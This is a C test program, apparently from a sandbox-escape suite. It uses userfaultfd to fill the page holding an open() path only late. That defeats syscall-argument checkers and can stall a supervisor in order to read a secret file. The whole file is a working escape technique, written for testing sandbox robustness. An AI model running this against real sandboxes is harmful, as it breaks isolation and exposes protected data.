/* e0505-userfaultfd - let a page fault decide, late, what path the
 * kernel reads.
 *
 * Attack: the path given to open() lies in a page registered with
 * userfaultfd and not yet filled; the first access to it (by a checker
 * reading the argument, or by the kernel) stops until a thread of the
 * program fills the page.  The program decides the contents at that
 * moment (here: the secret's path), and can stall a supervisor that
 * reads the page.  Tries userfaultfd(2), then /dev/userfaultfd.
 * Source: janus team (DESIGN.md "userfaultfd stalls"); Watson 2007
 * (widening race windows with page faults).
 * Usage: e0505-userfaultfd SECRET */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static int uffd;
static char *page, *fill;

static void *handler(void *arg)
{
	(void)arg;
	struct pollfd p = { uffd, POLLIN, 0 };
	if (poll(&p, 1, ESC_RACE_MS) <= 0)
		return NULL;
	struct uffd_msg msg;
	if (read(uffd, &msg, sizeof msg) != sizeof msg || msg.event != UFFD_EVENT_PAGEFAULT)
		return NULL;
	struct uffdio_copy c = { .dst = (uintptr_t)page, .src = (uintptr_t)fill, .len = 4096 };
	ioctl(uffd, UFFDIO_COPY, &c);
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0505-userfaultfd SECRET");
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC);
	esc_show_result("userfaultfd", fd);
	if (fd < 0) {
		int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
		esc_show_result("open /dev/userfaultfd", dev);
		if (dev >= 0) {
			fd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
			esc_show_result("USERFAULTFD_IOC_NEW", fd);
		}
	}
	if (fd < 0)
		return 0;
	uffd = (int)fd;
	struct uffdio_api api = { .api = UFFD_API };
	if (ioctl(uffd, UFFDIO_API, &api) < 0)
		esc_die("UFFDIO_API");
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	fill = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED || fill == MAP_FAILED)
		esc_die("mmap");
	snprintf(fill, 4096, "%s", argv[1]);
	struct uffdio_register reg = { .range = { (uintptr_t)page, 4096 },
				       .mode = UFFDIO_REGISTER_MODE_MISSING };
	esc_show_result("UFFDIO_REGISTER", ioctl(uffd, UFFDIO_REGISTER, &reg));
	pthread_t t;
	if (pthread_create(&t, NULL, handler, NULL) != 0)
		esc_die("pthread_create");
	esc_show_fd("open of the path in the faulting page", open(page, O_RDONLY | O_CLOEXEC));
	pthread_join(t, NULL);
	return 0;
}
